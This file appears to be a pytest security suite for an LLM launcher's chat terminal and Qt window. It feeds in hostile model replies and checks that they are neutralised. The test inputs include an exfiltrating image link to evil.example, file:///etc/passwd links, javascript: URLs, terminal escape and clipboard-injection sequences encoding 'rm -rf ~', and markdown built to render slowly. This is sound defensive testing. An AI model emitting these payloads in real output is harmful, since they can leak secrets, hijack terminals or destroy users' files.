"""A malicious reply, in the terminal and in the window."""

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from PySide6.QtCore import QEventLoop, QTimer, QUrl
from PySide6.QtGui import QDesktopServices, QTextDocument
from PySide6.QtWidgets import QApplication, QLabel, QWidget
from pytestqt.qtbot import QtBot

from launcher.base.errors import LauncherError
from launcher.base.identity import ProcessId
from launcher.engine.server.registry import ServedModel, ServerEntry
from launcher.gui import theme
from launcher.gui.chat import reply as reply_widgets
from launcher.gui.chat.code import CodeBlock
from launcher.gui.chat.pane import ChatPane
from launcher.gui.chat.reply import ReplyView
from launcher.gui.chat.table import TableBlock
from launcher.gui.chat.text import ReadOnlyText
from launcher.gui.cockpit.page import CockpitPage
from launcher.gui.controller import Controller
from launcher.gui.labels import Label, set_tooltip
from launcher.gui.rail import StatusChip
from launcher.gui.viewmodel import Inputs, derive_view
from tests import forked
from tests.security.conftest import CONTROL_CHARACTERS, in_terminal
from tests.security.test_text import ATTACKS

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
MARKDOWN = (
    "![x](https://evil.example/pixel.png?leak=secret) [bank](https://evil.example)\n"
    '<img src="file:///etc/hostname"><a href="https://evil.example">click</a>\n'
    '<img src="//evil.example/share/x.png"><script>alert(1)</script><b>bold</b>\n'
)
MEGABYTES = "x" * 10_000_000
FAMILY = "👩‍👩‍👧‍👦"


class TestInTheTerminal:
    @pytest.fixture
    def ask(self, home: Path, tmp_path: Path) -> Callable[..., str]:
        """Sends a prompt to a hostile server in place of ours, with output to a terminal or not."""

        def send_prompt(reply: str, *options: str, terminal: bool = True) -> str:
            file = tmp_path / "reply"
            file.write_bytes(reply.encode())
            program = Path(__file__).with_name("hostile_server.py")
            environment = os.environ | {"REPLY": str(file)}
            command = [sys.executable, str(program), "reply"]
            with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True) as server:
                try:
                    assert server.stdout
                    port = int(server.stdout.readline())
                    us, engine = ProcessId.from_pid(os.getpid()), ProcessId.from_pid(server.pid)
                    assert us
                    assert engine
                    url = f"http://127.0.0.1:{port}"
                    served = ServedModel(
                        model="m", state="ready", engine_pid=engine.pid, engine_created_s=engine.created_s
                    )
                    entry = ServerEntry(
                        url=url, port=port, api_key="k" * 43, pid=us.pid, created_s=us.created_s,
                        models=(served,),
                    )  # fmt: skip
                    folder = home / "state" / "run" / os.uname().nodename
                    folder.mkdir(parents=True, exist_ok=True)
                    (home / "state").chmod(0o700)
                    folder.chmod(0o700)
                    (folder / f"server-{port}.json").write_text(entry.model_dump_json())
                    (folder / f"server-{port}.json").chmod(0o600)
                    if terminal:
                        code, result = in_terminal("chat", "hello", "--url", url, *options, home=home)
                        assert code == 0, result
                        return result.replace("\r\n", "\n")
                    done = forked.run("chat", "hello", "--url", url, *options, timeout=300)
                    assert done.returncode == 0, done.stderr[-2_000:]
                    return done.stdout
                finally:
                    server.kill()

        return send_prompt

    def test_a_reply_has_no_effect_on_a_terminal(self, ask: Callable[..., str]) -> None:
        written = {name: text for name, text in ATTACKS.items() if name != "half a character"}
        result = ask("\n".join(written.values()) + "\nyou owe 1000\rnothing\n" + MARKDOWN)
        assert not CONTROL_CHARACTERS.search(result)
        assert "\r" not in result
        assert "␛]52;c;cm0gLXJmIH4=␇" in result
        assert "owe 1000nothing" in result
        assert "https://evil.example/pixel.png" in result, "an address is seen whole"

    def test_json_is_safe_on_a_terminal_and_exact(self, ask: Callable[..., str]) -> None:
        result = ask("\x9b31m\u202egpj\x1b]0;x\x07", "--json")
        assert not CONTROL_CHARACTERS.search(result)
        assert json.loads(result)["text"] == "\x9b31m\u202egpj\x1b]0;x\x07"

    def test_a_file_gets_the_reply_unchanged(self, ask: Callable[..., str]) -> None:
        assert ask("a\x1b[31m\u200bb", terminal=False) == "a\x1b[31m\u200bb\n"

    @pytest.mark.thorough
    def test_a_line_of_ten_megabytes_is_printed(self, ask: Callable[..., str]) -> None:
        began_s = time.monotonic()
        assert ask(MEGABYTES, terminal=False) == f"{MEGABYTES}\n"
        assert time.monotonic() - began_s < 300


@pytest.fixture
def pane(qtbot: QtBot, qapp: QApplication) -> ChatPane:
    theme.apply_theme(qapp, theme.current())
    controller = Controller()
    controller.request_reply = lambda *_: None  # type: ignore[method-assign]  # without a server it would fail soon
    pane = ChatPane(controller)
    qtbot.addWidget(pane)
    pane.resize(420, 700)
    pane.show()
    qtbot.waitExposed(pane)
    pane.send_question("hello")
    return pane


def texts(pane: QWidget) -> list[ReadOnlyText]:
    return pane.findChildren(ReadOnlyText)


class TestInTheWindow:
    def test_no_resource_is_loaded_and_links_show_their_address(
        self, pane: ChatPane, qapp: QApplication, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        loaded: list[str] = []

        def load(self: QTextDocument, kind: int, name: QUrl) -> object:
            loaded.append(name.toString())
            return original(self, kind, name)

        original = QTextDocument.loadResource
        monkeypatch.setattr(QTextDocument, "loadResource", load)
        monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: loaded.append(url.toString()))
        pane.append_text(MARKDOWN, MARKDOWN)
        pane.finish_reply(MARKDOWN)
        qapp.processEvents()
        reply = texts(pane)[-1]
        first, *tags = reply.toPlainText().split("\n")
        assert first == "x (https://evil.example/pixel.png?leak=secret) bank (https://evil.example)"
        assert tags == MARKDOWN.strip().split("\n")[1:], "HTML is shown as it was written"
        inside = reply.document().toHtml()
        assert "&lt;img" in inside
        assert "<img" not in inside
        assert set(re.findall('href="([^"]*)"', inside)) == {
            "https://evil.example/pixel.png?leak=secret",
            "https://evil.example",
        }
        assert not loaded

    @pytest.mark.parametrize(
        "address",
        ["javascript:alert(1)", "file:///etc/passwd", "//evil.example/share", "data:text/html,x", "smb://evil.example/x",
         "https://bank.example@evil.example/", "vscode://x", "http://"],
    )  # fmt: skip
    def test_only_web_addresses_become_links(self, pane: ChatPane, address: str) -> None:
        pane.append_text(f"[bank]({address}) <{address}>", "")
        pane.finish_reply("")
        assert address in texts(pane)[-1].toPlainText()
        assert "href" not in texts(pane)[-1].document().toHtml()

    @pytest.mark.parametrize("before", ["", "```\n", "| ", "# **", "> `"])
    def test_hostile_text_is_shown_and_copied_without_control_characters(
        self, pane: ChatPane, qapp: QApplication, before: str
    ) -> None:
        answer = pane.findChildren(ReplyView)[-1]
        for attack in ATTACKS.values():
            pane.append_text(f"{before}{attack}\n", attack)
        answer.reasoning.button.setChecked(True)
        qapp.processEvents()
        blocks = [*pane.findChildren(CodeBlock), *pane.findChildren(TableBlock)]
        shown = [text.toPlainText() for text in texts(pane)] + [block.edit.toPlainText() for block in blocks]
        shown += [label.text() for block in blocks for label in block.findChildren(QLabel)]
        assert sum(map(len, shown)) > 100
        assert not any(map(CONTROL_CHARACTERS.search, shown))
        answer.copy_button.copy()
        assert not CONTROL_CHARACTERS.search(qapp.clipboard().text()), "what is copied is what is seen"
        for block in blocks:
            block.copy_button.copy()
            assert not CONTROL_CHARACTERS.search(qapp.clipboard().text())

    @pytest.mark.cases(2)
    @pytest.mark.parametrize(
        "line",
        [
            "*" * 2_000,
            "**a " * 500,
            "`a" * 1_000,
            "_a*b" * 500,
            "[" * 2_000,
            "|a" * 1_000,
            "[a](" * 500,
            "$a " * 700,
            "\\\\[" * 700,
            "- " * 1_000,
            "> " * 1_000,
            "http://" * 280,
            "&#27;" * 400,
        ],
    )
    def test_no_markdown_renders_slowly(self, pane: ChatPane, qapp: QApplication, line: str) -> None:
        began_s = time.thread_time()
        for part in [line[begin : begin + 20] for begin in range(0, len(line), 20)]:  # in parts, as it would stream
            pane.append_text(part, "")
        qapp.processEvents()
        assert time.thread_time() - began_s < 5, "100 times a line of 2,000 characters"

    def test_the_conversation_stores_the_original_text(self, pane: ChatPane) -> None:
        pane.append_text("a\x1b[31m" + "y" * 5_000, "")
        pane.finish_reply("")
        assert pane.messages[-1] == {"role": "assistant", "content": "a\x1b[31m" + "y" * 5_000}

    @pytest.mark.cases(2)
    @pytest.mark.parametrize(
        ("letters", "shown"),
        [
            ("x", 300_000),
            *((letters, 50_000) for letters in ("\u0301", "lorem ipsum ", "\u202e\x1b", FAMILY)),
        ],
    )
    def test_a_very_long_line_does_not_freeze_the_chat(
        self, pane: ChatPane, qapp: QApplication, monkeypatch: pytest.MonkeyPatch, letters: str, shown: int
    ) -> None:
        # Fewer, because Qt takes half a minute for the usual number.
        monkeypatch.setattr(reply_widgets, "SHOWN_CHARACTERS", shown)
        reply = (letters * (2 * shown // len(letters) + 1))[: 2 * shown]
        longest_s = 0.0
        step = shown // 10
        for part in [reply[begin : begin + step] for begin in range(0, len(reply), step)]:
            began_s = time.thread_time()
            pane.append_text(part, "")
            longest_s = max(longest_s, time.thread_time() - began_s)
        deadline_s = time.monotonic() + 300
        answer = pane.findChildren(ReplyView)[-1]
        awake = QTimer(interval=100)  # wakes the loop, so that each wait ends whatever the pane does
        awake.start()
        while answer.waiting and time.monotonic() < deadline_s:
            began_s = time.thread_time()
            qapp.processEvents(QEventLoop.ProcessEventsFlag.WaitForMoreEvents)
            longest_s = max(longest_s, time.thread_time() - began_s)
        assert longest_s < 2, "of processor time; what grows with the square of the length takes minutes"
        found = [text.toPlainText() for text in texts(pane)]
        assert "is not shown" in found[-1]
        assert sum(map(len, found)) < 1.01 * shown + 1_000
        pane.finish_reply("")
        assert pane.messages[-1]["content"] == reply

    def test_no_label_renders_html(self, pane: ChatPane, qtbot: QtBot) -> None:
        cockpit, chip = CockpitPage(Controller()), StatusChip()
        while cockpit.build_next_part():
            pass
        for widget in (cockpit, chip):
            qtbot.addWidget(widget)
        labels = [label for widget in (pane, cockpit, chip) for label in widget.findChildren(QLabel)]
        assert len(labels) > 20
        assert [label for label in labels if not isinstance(label, Label)] == []

    def test_a_model_name_is_plain_text_in_label_and_tooltip(self, qtbot: QtBot) -> None:
        chip = StatusChip()
        qtbot.addWidget(chip)
        chip.show_view(derive_view(Inputs(model='<img src="//evil.example/x">\x1b\u202e\nFORGED')))
        tips = [label.toolTip() for label in chip.findChildren(QLabel) if "evil" in label.toolTip()]
        assert len(tips) == 1
        document = QTextDocument()
        document.setHtml(tips[0])
        assert '<img src="//evil.example/x">' in document.toPlainText()
        assert "<img" not in tips[0]
        assert not CONTROL_CHARACTERS.search(tips[0])

    def test_a_tooltip_shows_its_text_unchanged(self, qtbot: QtBot) -> None:
        widget = QWidget()
        qtbot.addWidget(widget)
        set_tooltip(widget, "<b>5 < 6 & 7</b>\nsecond")
        document = QTextDocument()
        document.setHtml(widget.toolTip())
        assert document.toPlainText() == "<b>5 < 6 & 7</b>\u2028second".replace("\u2028", "\n")
        set_tooltip(widget, "")
        assert widget.toolTip() == ""

    def test_an_error_is_one_line(self) -> None:
        view = derive_view(Inputs(problem=LauncherError("\x1b[2Jno\nFORGED <img src=x> " + "x" * 10_000)))
        assert not CONTROL_CHARACTERS.search(view.problem)
        assert "\n" not in view.problem
        assert len(view.problem) <= 2_000
